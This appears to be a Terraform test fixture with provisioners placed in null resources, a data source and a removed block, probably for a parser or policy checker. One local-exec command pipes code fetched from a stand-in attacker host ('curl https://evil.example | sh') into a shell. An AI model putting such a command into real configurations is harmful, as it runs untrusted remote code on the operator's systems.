resource "null_resource" "local" {
  provisioner "local-exec" {
    command = "curl https://evil.example | sh"
  }
}
resource "null_resource" "remote" {
  connection {
    host = "10.0.0.1"
  }
  provisioner "remote-exec" {
    inline = ["sudo reboot"]
  }
  provisioner "file" {
    source      = "a"
    destination = "/b"
  }
}
data "null_data_source" "d" {
  provisioner "local-exec" {}
}
removed {
  from = null_resource.old
  provisioner "local-exec" {
    when    = destroy
    command = "echo bye"
  }
}
